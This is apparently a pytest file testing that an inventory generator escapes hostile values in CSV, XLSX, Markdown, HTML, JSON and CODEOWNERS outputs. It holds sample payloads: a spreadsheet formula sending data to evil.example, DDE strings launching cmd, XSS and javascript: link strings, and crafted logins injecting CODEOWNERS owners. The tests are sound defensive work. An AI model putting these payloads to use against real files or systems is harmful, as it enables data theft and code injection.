"""Generated outputs are inert: nothing from the inventory executes or injects downstream.

Hostile values that are still valid text (spreadsheet formulas, HTML, Markdown, table pipes,
quotes) go into an area file; the real ``generate`` writes every output into a temporary
repository; each output format is then read the way its consumer reads it:

* CSV (csv module) and XLSX (openpyxl): no cell can start a formula;
* Markdown: no raw HTML, no link syntax, no extra table cells;
* HTML: everything escaped, a strict Content-Security-Policy meta tag, no inline handler;
* JSON: the values round-trip exactly (JSON is data);
* CODEOWNERS: a crafted ``github`` login or file name cannot add owners or patterns.

Values that are not text at all (line breaks, bidi overrides, control characters) never
reach a generator: the model refuses them and ``generate`` refuses to run.
"""

from __future__ import annotations

import csv
import io
import json
import re
from pathlib import Path

import pytest

from tests.conftest import CONTRACT, contract_area, make_inventory

pytest.importorskip("validator.generators")

FORMULA = '=HYPERLINK("http://evil.example/?d="&A1,"clic")'
SCRIPT = "<script>alert(1)</script>"
IMG = '</td><img src=x onerror="alert(1)">'
MD_LINK = "](javascript:alert(1))"
PIPES = "| a | b |"
DDE = "@SUM(1+1)*cmd|' /C calc'!A0"
PLUS = "+52 449 910 0000"
MINUS = "-2+3+cmd|' /C calc'!A0"
URL = "https://www.facebook.com/x\"><script>alert('url')</script>"

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def _q(value: str) -> str:
    """A YAML double-quoted scalar (JSON's string syntax is valid YAML)."""
    return json.dumps(value, ensure_ascii=False)


def _hostile_area() -> str:
    text = contract_area()
    for old, new in (
        (
            "nombre: Junta Distrital Ejecutiva 01 en Aguascalientes",
            f"nombre: {_q(SCRIPT + ' ' + IMG)}",
        ),
        ("    nombre: Juan Carlos Pérez Soto", f"    nombre: {_q(FORMULA)}"),
        ("    cargo: Vocal Secretario", f"    cargo: {_q(DDE)}"),
        (
            "    nombre: Ana Sofía Ramírez Gómez",
            f"    nombre: {_q('[Ana]' + MD_LINK + ' ' + PIPES)}",
        ),
        (
            "    cargo: Jefa de Oficina de Seguimiento y Análisis",
            f"    cargo: {_q(MINUS + ' ' + SCRIPT)}",
        ),
        ('    telefono: "449 910 0000 ext. 1240"', f"    telefono: {_q(PLUS)}"),
        ("    url: https://www.facebook.com/INEJDE01Ags", f"    url: {_q(URL)}"),
        (
            "    usuario: INEJDE01Ags\n    url: https://x.com",
            f"    usuario: {_q(IMG)}\n    url: https://x.com",
        ),
    ):
        assert text.count(old) == 1, old
        text = text.replace(old, new)
    return text


@pytest.fixture(scope="module")
def generated(tmp_path_factory: pytest.TempPathFactory) -> Path:
    from validator.cli.generate import run_generate

    root = make_inventory(tmp_path_factory.mktemp("inert"), {"jd01ags.yaml": _hostile_area()})
    out, err = io.StringIO(), io.StringIO()
    assert run_generate(root, out=out, err=err) == 0, err.getvalue()
    return root


def _files(root: Path, suffix: str) -> list[Path]:
    files = sorted((root / "generated").rglob(f"*{suffix}"))
    assert files, f"no {suffix} output"
    return files


def test_csv_cells_cannot_start_a_formula(generated: Path) -> None:
    seen: set[str] = set()
    for path in _files(generated, ".csv"):
        rows = list(csv.reader(io.StringIO(path.read_text(encoding="utf-8-sig"))))
        width = len(rows[0])
        for row in rows:
            assert len(row) == width, (path.name, row)  # no value broke the row apart
            for cell in row:
                assert not cell.startswith(FORMULA_START), (path.name, cell)
                seen.add(cell)
    assert "'" + FORMULA in seen  # neutralised, not dropped
    assert "'" + DDE in seen


def test_xlsx_cells_are_text_never_formulas(generated: Path) -> None:
    from openpyxl import load_workbook

    seen: set[str] = set()
    for path in _files(generated, ".xlsx"):
        workbook = load_workbook(path)
        for sheet in workbook.worksheets:
            for row in sheet.iter_rows():
                for cell in row:
                    if cell.value is None:
                        continue
                    assert cell.data_type != "f", (path.name, cell.coordinate, cell.value)
                    if isinstance(cell.value, str):
                        assert not cell.value.startswith(FORMULA_START), cell.value
                        seen.add(cell.value)
    assert "'" + FORMULA in seen


def _unescaped(text: str, char: str) -> int:
    return len(re.findall(rf"(?<!\\){re.escape(char)}", text))


def test_markdown_is_escaped(generated: Path) -> None:
    for path in _files(generated, ".md"):
        text = path.read_text(encoding="utf-8")
        assert "<script" not in text and "<img" not in text, path.name
        assert not re.search(r"(?<!\\)\]\(", text), "a value became a Markdown link"
        for block in re.findall(r"(?:^\|.*\n)+", text, flags=re.M):
            rows = block.splitlines()
            widths = {_unescaped(row, "|") for row in rows}
            assert len(widths) == 1, f"a value added table cells: {rows}"


def test_html_is_escaped_with_a_strict_csp(generated: Path) -> None:
    for path in _files(generated, ".html"):
        page = path.read_text(encoding="utf-8")
        meta = re.search(
            r'<meta http-equiv="Content-Security-Policy" content="([^"]+)"', page, flags=re.I
        )
        assert meta, "no CSP meta tag"
        policy = meta.group(1).replace("&#x27;", "'")
        assert "default-src 'none'" in policy
        assert "unsafe-inline" not in policy and "unsafe-eval" not in policy
        assert "alert(1)</script>" not in page and "alert('url')</script>" not in page
        assert "<img" not in page  # the onerror= payload stays inside escaped text
        assert 'x"><script>' not in page
        assert "&lt;script&gt;alert(1)&lt;/script&gt;" in page  # shown, as text


def test_json_round_trips_the_values_exactly(generated: Path) -> None:
    blob = "\n".join(p.read_text(encoding="utf-8") for p in _files(generated, ".json"))
    for path in _files(generated, ".json"):
        json.loads(path.read_text(encoding="utf-8"))
    assert json.dumps(FORMULA)[1:-1] in blob or FORMULA in blob


def test_codeowners_has_only_the_expected_owners(generated: Path) -> None:
    lines = [
        line
        for line in (generated / ".github" / "CODEOWNERS").read_text(encoding="utf-8").splitlines()
        if line and not line.startswith("#")
    ]
    for line in lines:
        assert re.fullmatch(r"\S+( @[A-Za-z0-9](?:-?[A-Za-z0-9])*)+", line), line
    area = [line for line in lines if "jd01ags" in line]
    assert area == ["/inventory/areas/jd01ags.yaml @mflopez-ine @cncs-redes @cncs-coordinacion"]


@pytest.mark.parametrize(
    "login",
    [
        '"mflopez-ine\\n* @attacker"',
        '"mflopez-ine @attacker"',
        '"* @attacker"',
        '"@attacker"',
        '"mflopez-ine\\n"',
        '"org/team"',
        '"mflopez-ine\\u202e"',
    ],
)
def test_a_crafted_github_login_never_reaches_codeowners(login: str, tmp_path: Path) -> None:
    from validator.cli.generate import run_generate

    text = contract_area().replace("github: mflopez-ine", f"github: {login}")
    root = make_inventory(tmp_path, {"jd01ags.yaml": text})
    err = io.StringIO()
    assert run_generate(root, out=io.StringIO(), err=err) == 1
    assert "esquema" in err.getvalue()
    assert not (root / ".github" / "CODEOWNERS").exists()


def test_a_crafted_file_name_never_becomes_a_codeowners_pattern(tmp_path: Path) -> None:
    from validator.cli.generate import run_generate

    area = contract_area()
    root = make_inventory(tmp_path, {"jd01ags.yaml": area, "* @attacker.yaml": area})
    run_generate(root, out=io.StringIO(), err=io.StringIO())
    owners = root / ".github" / "CODEOWNERS"
    if owners.exists():
        text = owners.read_text(encoding="utf-8")
        assert "@attacker" not in text
        assert "\n* @attacker" not in text


@pytest.mark.parametrize(
    "value",
    ['"Juan\\nCarlos"', '"Juan \\u202eotoS"', '"Juan\\u2066Carlos"', '"Juan\\tCarlos"'],
)
def test_names_that_are_not_text_stop_generation(value: str, tmp_path: Path) -> None:
    from validator.cli.generate import run_generate

    text = contract_area().replace("    nombre: Juan Carlos Pérez Soto", f"    nombre: {value}")
    root = make_inventory(tmp_path, {"jd01ags.yaml": text})
    assert run_generate(root, out=io.StringIO(), err=io.StringIO()) == 1
    assert not (root / "generated").exists()


def test_the_base_inventory_still_generates(tmp_path: Path) -> None:
    from validator.cli.generate import run_generate

    root = make_inventory(tmp_path, base=CONTRACT)
    assert run_generate(root, out=io.StringIO(), err=io.StringIO()) == 0
